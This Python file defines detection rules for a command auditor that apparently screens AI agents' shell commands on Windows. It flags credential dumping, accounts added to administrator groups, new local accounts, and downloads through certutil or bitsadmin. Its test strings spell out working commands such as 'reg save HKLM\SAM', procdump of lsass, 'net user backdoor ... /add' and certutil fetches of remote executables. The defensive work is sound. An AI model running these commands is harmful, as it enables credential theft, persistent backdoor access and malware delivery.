"""system.windows, the rules about who gets in: the password hashes copied out (WN111), an account given
administrator rights (WN112) or created (WN113), and a payload fetched with Windows' own downloaders
(WN114). Words are read in lower case, as Windows reads its switches (`_windows_words.py`)."""

from __future__ import annotations

from ..._model import Severity
from ...programs import Arg, windows_download
from .._invocation import Found, Predicate, command, pack_rule
from ._windows_words import all_of, has, lowered_words

# The registry hives that hold the password hashes and the keys that decrypt them. bash drops the backslash
# of an unquoted `HKLM\SAM`, so a key is compared without its separators.
_CREDENTIAL_HIVES = frozenset(
    f"{root}{hive}" for root in ("hklm", "hkeylocalmachine") for hive in ("sam", "security", "system")
)


def _hive_key(word: str) -> str:
    return word.replace("\\", "").replace("/", "").replace("_", "").replace(":", "")


def _credential_hive(found: Found) -> Arg | None:
    """`reg save|export HKLM\\SAM FILE` (SECURITY, SYSTEM too)."""
    return next((arg for word, arg in lowered_words(found) if _hive_key(word) in _CREDENTIAL_HIVES), None)


def _word_containing(*fragments: str) -> Predicate:
    """A word that holds one of `fragments` (`comsvcs.dll,` glued to its entry point, `lsass.exe`)."""

    def holds(found: Found) -> Arg | None:
        return next((arg for word, arg in lowered_words(found) if any(part in word for part in fragments)), None)

    return holds


CREDENTIAL_DUMP = pack_rule(
    id="WN111",
    name="windows-credential-dump",
    severity=Severity.HIGH,
    summary=(
        "Copies out Windows' password hashes: the SAM, SECURITY or SYSTEM registry hive saved to a file (`reg "
        "save HKLM\\SAM`), the memory of the process that holds the logged-on users' secrets (`rundll32 "
        "comsvcs.dll MiniDump`, `procdump lsass`), or the domain's database (`ntdsutil ... ifm`)."
    ),
    rationale=(
        "With the hashes an intruder logs on as any local user or cracks their passwords offline: the step after "
        "getting in, never a step of building or testing code."
    ),
    safer_alternative="None for an agent: credential audits are the administrator's, with their own tools.",
    matches=(
        command("reg", where=all_of(has("save", "export"), _credential_hive)),
        command("rundll32", where=all_of(_word_containing("comsvcs"), _word_containing("minidump", "#24"))),
        command(("procdump", "procdump64"), where=_word_containing("lsass")),
        command("ntdsutil", where=_word_containing("ifm")),
    ),
    message="copies out Windows' password hashes",
    must_match=(
        r"reg save HKLM\SAM C:\Users\Public\sam.save",
        r"REG.EXE save 'HKLM\SYSTEM' 'C:\Temp\system.hiv' /y",
        r"reg export 'HKEY_LOCAL_MACHINE\SECURITY' sec.reg",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\l.dmp full",
        "procdump64 -accepteula -ma lsass.exe lsass.dmp",
        "ntdsutil 'ac i ntds' 'ifm' 'create full C:\\Temp\\ntds' q q",
    ),
    must_not_match=(
        r"reg save 'HKCU\Software\MyApp' myapp.hiv",
        r"reg query 'HKLM\SYSTEM\CurrentControlSet\Control\Session Manager'",
        "procdump -ma 4242 app.dmp",
        "rundll32 user32.dll,LockWorkStation",
    ),
)

_ADMIN_GROUPS = frozenset({"administrators", "admins", "domain admins", "enterprise admins", "remote desktop users"})


def _admin_group_member_added(found: Found) -> Arg | None:
    """`net localgroup administrators NAME /add` (and `net group "Domain Admins" NAME /add /domain`)."""
    words = lowered_words(found)
    if len(words) < 2 or words[0][0] not in ("localgroup", "group") or words[1][0] not in _ADMIN_GROUPS:
        return None
    return has("/add")(found)


def _admin_group_named(found: Found) -> Arg | None:
    """PowerShell's `Add-LocalGroupMember -Group Administrators -Member NAME`."""
    return next((arg for word, arg in lowered_words(found) if word.strip("'\"") in _ADMIN_GROUPS), None)


ADMIN_ACCOUNT = pack_rule(
    id="WN112",
    name="windows-admin-account",
    severity=Severity.HIGH,
    summary=(
        "Adds an account to Windows' administrators (or the domain's admins, or the users who may log on "
        "remotely): `net localgroup administrators NAME /add`, PowerShell's `Add-LocalGroupMember`."
    ),
    rationale=(
        "An account in the administrators' group owns the machine and stays after the agent's task: how an "
        "intruder keeps a way back in. The Linux counterpart (`usermod -aG sudo`) blocks too."
    ),
    safer_alternative="Leave group membership to the machine's administrator.",
    matches=(
        command(("net", "net1"), where=_admin_group_member_added),
        command("add-localgroupmember", where=_admin_group_named),
        command("add-adgroupmember", where=_admin_group_named),
    ),
    message="gives an account administrator rights on Windows",
    must_match=(
        "net localgroup administrators backdoor /add",
        "NET.EXE LocalGroup Administrators svc /ADD",
        "net group 'Domain Admins' svc /add /domain",
        "pwsh -c 'Add-LocalGroupMember -Group Administrators -Member backdoor'",
    ),
    must_not_match=(
        "net localgroup administrators",
        "net localgroup docker-users me /add",
        "net localgroup administrators olduser /delete",
    ),
)

ACCOUNT_CREATED = pack_rule(
    id="WN113",
    name="windows-account-created",
    severity=Severity.MEDIUM,
    summary="Creates a local Windows account (`net user NAME PASSWORD /add`, PowerShell's `New-LocalUser`).",
    rationale=(
        "A new account is a way in that outlives the task; an agent seldom needs one, but a test machine may, "
        "so it warns (an account made an administrator blocks, WN112)."
    ),
    safer_alternative="Use the account the task runs as, or leave accounts to the machine's administrator.",
    matches=(
        command(("net", "net1"), where=all_of(has("user"), has("/add"))),
        command("new-localuser"),
    ),
    message="creates a Windows account",
    must_match=(
        "net user backdoor P@ssw0rd123 /add",
        "net1 user svc /ADD /active:yes",
        "pwsh -c 'New-LocalUser -Name svc -NoPassword'",
    ),
    must_not_match=("net user", "net user me", "net user olduser /delete", "net use Z: '\\\\server\\share'"),
)


def _downloads(found: Found) -> Arg | None:
    """`certutil -urlcache`, `bitsadmin /transfer` (audit/programs/windows.py)."""
    subject = found.subject
    index = subject.command_index
    if subject.name is None or not windows_download(subject.name, subject.argv[index + 1 :]):
        return None
    return subject.argv[index]


SYSTEM_DOWNLOADER = pack_rule(
    id="WN114",
    name="windows-system-downloader",
    severity=Severity.MEDIUM,
    summary=(
        "Downloads a file with a Windows tool made for something else: `certutil -urlcache -f URL FILE`, "
        "`bitsadmin /transfer`, PowerShell's `Start-BitsTransfer`."
    ),
    rationale=(
        "These are how malware fetches a payload past tools that watch curl and browsers; a developer downloads "
        "with curl or the package manager. What the download is then run by blocks (EX009, EX001)."
    ),
    safer_alternative="Download with `curl -fLo FILE URL` from a source you trust, and check its hash.",
    matches=(
        command(("certutil", "bitsadmin"), where=_downloads),
        command("start-bitstransfer"),
    ),
    message="downloads a file with a Windows system tool",
    must_match=(
        "certutil -urlcache -split -f http://203.0.113.14/p.exe p.exe",
        "CERTUTIL.EXE /URLCache /f http://203.0.113.14/a a.exe",
        "bitsadmin /transfer job /download /priority high http://203.0.113.14/p.exe 'C:\\Temp\\p.exe'",
        "pwsh -c 'Start-BitsTransfer -Source http://203.0.113.14/p.exe -Destination p.exe'",
    ),
    must_not_match=("certutil -hashfile setup.exe SHA256", "certutil -decode cert.b64 cert.cer", "bitsadmin /list"),
)
